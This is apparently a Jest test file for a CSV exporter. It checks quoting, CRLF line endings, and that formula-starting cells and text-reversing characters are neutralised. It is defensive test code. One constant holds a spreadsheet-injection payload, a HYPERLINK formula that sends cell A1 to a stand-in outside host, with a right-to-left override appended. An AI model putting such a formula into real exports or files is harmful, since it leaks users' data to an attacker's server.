import { beforeAll, describe, expect, test } from '@jest/globals';
import { csvText } from '../../../src/bundle/csv.js';
import { makeAuthority, type Authority } from '../../vectors/authority.js';
import { goodBundle, type GoodBundle } from '../../vectors/make-bundle.js';

const HOSTILE = '=HYPERLINK("https://stranger.example/?"&A1,"open")\u202E';

let authority: Authority;
let halted: GoodBundle;

beforeAll(async () => {
  authority = makeAuthority('Example School');
  halted = await goodBundle(authority, { end: 'halted' });
}, 120_000);

/** A reader of RFC 4180, from its grammar. */
function parse(text: string): string[][] {
  const rows: string[][] = [];
  let at = 0;
  while (at < text.length) {
    const row: string[] = [];
    for (;;) {
      const found = /(?:"((?:[^"]|"")*)"|([^",\r\n]*))(,|\r\n)/y;
      found.lastIndex = at;
      const [whole = '', quoted, plain = '', end] = found.exec(text) ?? [];
      if (whole === '') throw new Error(`not RFC 4180 at ${at}`);
      row.push(quoted === undefined ? plain : quoted.replaceAll('""', '"'));
      at += whole.length;
      if (end === '\r\n') break;
    }
    rows.push(row);
  }
  return rows;
}

function table(bundle: GoodBundle, path: string): Record<string, string>[] {
  const text = Buffer.from(bundle.files.get(path) ?? new Uint8Array()).toString();
  expect(text.startsWith('\uFEFF')).toBe(true);
  const [heads = [], ...rows] = parse(text.slice(1));
  return rows.map((cells) => {
    expect(cells).toHaveLength(heads.length);
    return Object.fromEntries(heads.map((head, i) => [head, cells[i] ?? '']));
  });
}

describe('a CSV file', () => {
  test('has CRLF after every row and quotes what needs them', () => {
    expect(csvText(['a', 'b'], [['x,y', 'say "no"'], ['two\nlines', null], ['', 7]])).toBe('\uFEFFa,b\r\n"x,y","say ""no"""\r\n"two\nlines",\r\n,7\r\n');
  });

  test.each(['=1+1', '+1', '-1', '@SUM(A1)', '\t=1', '\r=1', '  =1', '\n=1', '＝1+1', '＋1', '－1', '＠x'])('%j is no formula to a spreadsheet', (text) => {
    const [, [cell = ''] = []] = parse(csvText(['a'], [[text]]).slice(1));
    expect(cell).toMatch(/^'|^\[U\+000D\]/);
  });

  test('shows what would turn or hide text', () => {
    expect(csvText(['a'], [['a\u202Eb\u0000']])).toContain('a[U+202E]b[U+0000]');
  });
});

describe('visits.csv', () => {
  test('has one row for every entry about an address, in order, and the views add up', () => {
    const rows = table(halted, 'data/visits.csv');
    const kinds = new Set(['navigation', 'navigation-in-page', 'navigation-failed', 'navigation-refused', 'refusal', 'suspected-address', 'socket-opened']);
    const told = halted.sample.entries.filter((entry) => kinds.has(entry.header.kind));
    expect(rows.map((row) => [row['entry'], row['kind'], row['address']])).toEqual(told.map((entry) => [`${entry.header.seq}`, entry.header.kind, (entry.body?.data as { url: string }).url]));
    const outcomes = rows.filter((row) => row['place'] === 'page' && row['kind'] !== 'navigation-in-page').map((row) => row['outcome']);
    expect(outcomes).toEqual(['captured', 'captured', 'failed', 'left', 'halted']);
  });

  test('a hostile address is text in it', async () => {
    const hostile = await goodBundle(authority, { end: 'sealed', hostile: HOSTILE });
    expect(table(hostile, 'data/visits.csv').length).toBeGreaterThan(5);
    expect(table(hostile, 'data/exhibits.csv').some((row) => row['note']?.includes('=HYPERLINK(') === true)).toBe(true);
    for (const row of [...table(hostile, 'data/visits.csv'), ...table(hostile, 'data/exhibits.csv')]) for (const cell of Object.values(row)) expect(cell).not.toMatch(/^[=+@-]|\u202E/);
  });
});

describe('exhibits.csv', () => {
  test('lists each file with its hash, and of a quarantined exhibit no path into the bundle', () => {
    const rows = table(halted, 'data/exhibits.csv');
    expect(new Set(rows.map((row) => `${row['exhibit']} ${row['state']}`))).toEqual(new Set(['PAS/1 here', 'TRE/1 here', 'PAS/2 quarantined']));
    const listed = new Map(Buffer.from(halted.files.get('manifest-sha256.txt') ?? '').toString().split('\n').filter(Boolean).map((line) => [line.slice(66), line.slice(0, 64)]));
    for (const row of rows.filter((each) => each['state'] === 'here')) expect(listed.get(row['file'] ?? '')).toBe(row['sha256']);
    for (const row of rows.filter((each) => each['state'] === 'quarantined')) expect(row['file']).not.toContain('/');
  });
});
